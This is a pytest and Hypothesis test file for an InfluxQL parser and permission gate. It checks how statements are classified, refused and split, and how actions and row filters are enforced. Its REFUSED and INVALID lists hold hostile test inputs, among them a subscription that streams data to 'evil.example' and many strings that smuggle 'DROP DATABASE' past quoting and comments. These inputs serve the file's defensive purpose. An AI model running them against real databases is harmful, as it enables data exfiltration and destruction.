"""InfluxQL of clients: each statement is found and classified as InfluxDB would read it, or refused (T8)."""

from __future__ import annotations

import json
import urllib.error
import urllib.parse
import urllib.request
import uuid
from collections.abc import Iterator
from contextlib import suppress

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from apps.influx.v1_reading import check_allowed
from libs.context import Principal, RowFilter
from libs.errors import RequestError
from libs.rest.dialects import DIALECTS
from parser.influxql import statements
from query.influx.quote import identifier, quotable, string
from query.influxql import VERSION, NativeQuery

READ, WRITE, METADATA = {"read", "native"}, {"write"}, {"metadata"}
KNOWN = [
    ("SELECT a FROM m", READ),
    ("select mean(\"a\") from db.rp./x.*/ where host =~ /^(a|b);c'$/ group by time(1m), /t/ fill(none)", READ),
    ("SELECT a INTO b FROM m", READ | WRITE),
    ("SELECT a INTO db..:MEASUREMENT FROM /.*/", READ | WRITE),
    ("SELECT \"into\", 'INTO' FROM m -- INTO x", READ),
    ("EXPLAIN SELECT a FROM m", READ),
    ("EXPLAIN ANALYZE SELECT a FROM m", READ),
    ("SHOW DATABASES", READ),
    ("show retention policies on \"x\"", READ),
    ("SHOW MEASUREMENTS WITH MEASUREMENT =~ /a;b/", READ),
    ("SHOW SERIES EXACT CARDINALITY FROM m", READ),
    ("SHOW TAG KEYS FROM m", READ),
    ("SHOW TAG VALUES WITH KEY IN (\"a\", b)", READ),
    ("SHOW FIELD KEYS", READ),
    ("SHOW CONTINUOUS QUERIES", READ),
    ("SHOW QUERIES", READ | {"admin"}),
    ("SHOW STATS", READ | {"admin"}),
    ("SHOW DIAGNOSTICS", READ | {"admin"}),
    ("DELETE FROM m WHERE host = 'a'", WRITE),
    ("CREATE DATABASE \"a;b\"", METADATA),
    ("CREATE RETENTION POLICY p ON db DURATION 1d REPLICATION 1 DEFAULT", METADATA),
    ("ALTER RETENTION POLICY p ON db DURATION 2d", METADATA),
    ("CREATE CONTINUOUS QUERY c ON db BEGIN SELECT mean(a) INTO b FROM m GROUP BY time(1m) END", READ | WRITE | METADATA),
    ("DROP DATABASE x", METADATA),
    ("DROP MEASUREMENT m", METADATA),
    ("DROP SERIES FROM /m/ WHERE host = 'a'", METADATA),
    ("DROP RETENTION POLICY p ON db", METADATA),
    ("DROP CONTINUOUS QUERY c ON db", METADATA),
]  # fmt: skip
REFUSED = [
    "CREATE USER a WITH PASSWORD 'x' WITH ALL PRIVILEGES",
    "SET PASSWORD FOR a = 'x'",
    "DROP USER a",
    "GRANT ALL ON db TO a",
    "REVOKE ALL PRIVILEGES FROM a",
    "KILL QUERY 36",
    "CREATE SUBSCRIPTION s ON db.rp DESTINATIONS ALL 'http://evil.example'",
    "DROP SUBSCRIPTION s ON db.rp",
    "DROP SHARD 1",
    "SHOW USERS",
    "SHOW GRANTS FOR a",
    "SHOW SUBSCRIPTIONS",
    "SHOW SHARDS",
    "SHOW SHARD GROUPS",
    "EXPLAIN SELECT a INTO b FROM m",
    "SHOW SERIES INTO x",
    "INSERT cpu v=1",
    "BACKUP DATABASE x",
    '"SELECT" a FROM m',
    "1",
    "(SELECT a FROM m)",
    "FROM m SELECT a",
]
INVALID = [
    "",
    " ; ; -- nothing",
    "SELECT a FROM m; DROP\x00 DATABASE x",
    "SELECT 'a FROM m; DROP DATABASE x--",
    'SELECT "a\nb" FROM m',
    "SELECT 'a\\qb' FROM m",
    "SELECT a./b FROM m; DROP DATABASE x; SELECT c./d FROM m",
    "SELECT $p./b FROM m; DROP DATABASE x; SELECT c./d FROM m",
    "SELECT f(a, b./c FROM m; DROP DATABASE x; SELECT d./e)",
    "SELECT a./' FROM m WHERE b = '; DROP DATABASE x; --'",
    "SELECT mean(a) FROM /x;y/",
    "SELECT mean(a) FROM m, /x'y/",
    "SELECT a FROM m WHERE /x/",
    "SELECT a FROM m WHERE b = 1 AND / 2",
    "SELECT a /* no end; DROP DATABASE x",
    "SELECT a FROM /no end",
    'SELECT"a" FROM m',
    'DROP"x"',
    "SELECT a FROM (SELECT b FROM m; DROP DATABASE x)",
    "SELECT a) FROM m",
    "SELECT a\u2028FROM m",
    "SELECT a FROM m #",
    "SELECT a ! b FROM m",
]


@pytest.mark.parametrize(("text", "needs"), KNOWN)
def test_known_statements(text: str, needs: set[str]) -> None:
    (found,), sent = statements(text)
    assert found.needs == needs
    assert found.mutates == bool(needs & {"write", "metadata"})
    assert "--" not in sent
    assert "/*" not in sent
    again, same = statements(sent)
    assert (again, same) == ((found,), sent)


@pytest.mark.parametrize("text", REFUSED)
@pytest.mark.parametrize(
    "around", ["{}", "SHOW DATABASES; {}", "{};SELECT a FROM m", "/* x */ {} -- y", "select 1/2;\r\n{}"]
)
def test_refused_statements_refuse_all(text: str, around: str) -> None:
    with pytest.raises(RequestError) as caught:
        statements(around.format(text))
    assert caught.value.code.name == "STATEMENT_REFUSED"
    assert caught.value.status == 403
    assert "'x'" not in caught.value.message


@pytest.mark.parametrize("text", INVALID)
def test_what_cannot_be_read_is_refused(text: str) -> None:
    with pytest.raises(RequestError) as caught:
        statements(text)
    assert caught.value.code.name == "STATEMENT_INVALID"


def test_comments_are_blanked_and_leave_every_other_character_in_its_place() -> None:
    text = "SELECT a -- ; '\nFROM m /* \" \n ; */ WHERE b = '--' AND c =~ /--/"
    found, sent = statements(text)
    assert len(found) == 1
    assert sent == "SELECT a       \nFROM m      \n      WHERE b = '--' AND c =~ /--/"
    assert len(sent) == len(text)


TEXTS = st.text(alphabet=st.one_of(st.characters(), st.sampled_from("\\'\";/-*\n\r$.,() =~")))


@settings(max_examples=150)
@given(text=TEXTS)
def test_a_quoted_text_stays_one_word_of_one_statement(text: str) -> None:
    assume(quotable(text))
    written = f"SELECT {identifier(text + 'x')} FROM m WHERE a = {string(text)}; SHOW DATABASES"
    found, sent = statements(written)
    assert [one.kind for one in found] == ["SELECT", "SHOW DATABASES"]
    assert found[0].tokens[1].name == text + "x"
    assert found[0].tokens[-1].text == text
    assert sent == written


@settings(max_examples=150)
@given(text=TEXTS)
def test_no_text_makes_it_fail_otherwise(text: str) -> None:
    for written in (text, f"SELECT {text} FROM m", f"SELECT a FROM {text}", f"SELECT a FROM m WHERE b =~ {text}"):
        with suppress(RequestError):
            statements(written)


EXPRESSIONS = [
    "a", "a./b", "a / b", "a/b/c", "/x/", "mean(/x/)", "mean(a)/2", "a::field/b", "*", "*::tag", '"a"/"b;c"', '"a;\'"', "1./2*a", ".5/a",
    "count(a)/count(b)", "-a/b", "a /*c;*/ + b", "a --x;'\n", "mean(a)/*;*/", "a, /y/", "a, b./c", "distinct(a)", "a /b; SHOW DATABASES/ c",
]  # fmt: skip
SOURCES = [
    "m", "/m/", "/m;x/", "{db}../m/", '"{db}".autogen./m.*/', "{db}..m", "(SELECT a FROM m)", "m,/x/", "m, {db}../y/", "/a'b/", "m/x/",
    "(SELECT a./b FROM m)", "m /*; '*/", "{db}. ./m/", "/m/ /x/", "m--;\n",
]  # fmt: skip
CONDITIONS = [
    "", "host =~ /a;b/", "host = 'x;y'", "a/b > 1", "host !~ /\\/;'/", "time > 0 -- ;\n", "a > 1 /* ; ' */ AND b < 2", "host =~/*x*/ /y/",
    "host =~ /a\\\\/ AND b = '; SHOW DATABASES'", "a./b > 1; SHOW DATABASES; SELECT c./d FROM m", "host = 'a\\'; SHOW DATABASES--'",
]  # fmt: skip


@pytest.fixture(scope="module")
def db(influx_url: str) -> Iterator[str]:
    name = f"v1s{uuid.uuid4().hex[:10]}"
    ask(influx_url, f"CREATE DATABASE {name}", "")
    request = urllib.request.Request(f"{influx_url}/write?db={name}", b"m,host=x a=1,b=2 1", method="POST")
    urllib.request.urlopen(request).close()
    yield name
    ask(influx_url, f"DROP DATABASE {name}", "")


def ask(url: str, text: str, db: str) -> list[object] | None:
    """The results of InfluxDB; None where it cannot parse the query."""
    data = urllib.parse.urlencode({"q": text, "db": db}).encode()
    try:
        with urllib.request.urlopen(f"{url}/query", data) as answer:
            found: list[object] = json.load(answer).get("results", [])
            return found
    except urllib.error.HTTPError as error:
        if error.code != 400:
            raise
        return None


@settings(max_examples=200, suppress_health_check=list(HealthCheck))
@given(
    expression=st.sampled_from(EXPRESSIONS),
    source=st.sampled_from(SOURCES),
    condition=st.sampled_from(CONDITIONS),
    end=st.sampled_from(["", ";", ";;SHOW DATABASES", "; SHOW MEASUREMENTS -- x", "; SELECT a FROM m"]),
)
def test_statements_end_where_influxdb_ends_them(
    expression: str, source: str, condition: str, end: str, influx_url: str, db: str
) -> None:
    """What is sent as one, two, three statements runs as so many: whatever is not refused here."""
    where = f" WHERE {condition}" if condition else ""
    text = f"SELECT {expression} FROM {source.format(db=db)}{where}{end}"
    try:
        found, sent = statements(text)
    except RequestError:
        return
    results = ask(influx_url, sent, db)
    if results is not None and not any(isinstance(one, dict) and "error" in one for one in results):
        assert len(results) == len(found), text


def query(text: str) -> NativeQuery:
    found, sent = statements(text)
    return NativeQuery(sent, found)


@pytest.mark.parametrize(("text", "needs"), KNOWN)
def test_every_action_is_asked_for(text: str, needs: set[str]) -> None:
    check_allowed(query(text), Principal(actions=frozenset(needs)), "influx", "POST")
    for missing in needs:
        caller = Principal(actions=frozenset({"read", "write", "metadata", "native", "admin"} - {missing}))
        with pytest.raises(RequestError) as caught:
            check_allowed(query(f"SHOW DATABASES; {text}"), caller, "influx", "POST")
        assert caught.value.code.name == "PERMISSION_DENIED"
        assert missing in caught.value.message


def test_what_changes_something_is_no_get() -> None:
    everything = Principal(actions=frozenset({"read", "write", "metadata", "native", "admin"}))
    for text, needs in KNOWN:
        if needs & {"write", "metadata"}:
            with pytest.raises(RequestError) as caught:
                check_allowed(query(f"SHOW DATABASES; {text}"), everything, "influx", "GET")
            assert (caught.value.status, caught.value.allow) == (405, ("POST",))
        else:
            check_allowed(query(text), everything, "influx", "GET")


def test_a_row_filter_is_not_passed_by_native_statements() -> None:
    filtered = Principal(
        actions=frozenset({"read", "write", "metadata", "native", "admin"}),
        row_filter=(RowFilter("influx", {"field": "host", "op": "eq", "value": "a"}),),
    )
    names = ("SHOW DATABASES", "SHOW MEASUREMENTS", "SHOW TAG KEYS", "SHOW FIELD KEYS", "SHOW RETENTION POLICIES ON x")
    for text in names:
        check_allowed(query(text), filtered, "influx", "POST")
    for text in (
        "SELECT a FROM m",
        "EXPLAIN ANALYZE SELECT a FROM m",
        "SHOW TAG VALUES WITH KEY = host",
        "SHOW SERIES",
        "SHOW MEASUREMENTS WHERE host = 'b'",
        "SHOW TAG KEYS WHERE host = 'b'",
        "SHOW DATABASES; SELECT a INTO b FROM m",
        "DELETE FROM m WHERE host = 'b'",
        "DROP SERIES FROM m",
        "SHOW QUERIES",
    ):
        with pytest.raises(RequestError) as caught:
            check_allowed(query(text), filtered, "influx", "POST")
        assert caught.value.code.name == "PERMISSION_DENIED"
        check_allowed(query(text), filtered, "influx-eu", "POST")


def test_the_protocol_has_one_version() -> None:
    assert DIALECTS["influxdb"].headers["x-influxdb-version"] == VERSION
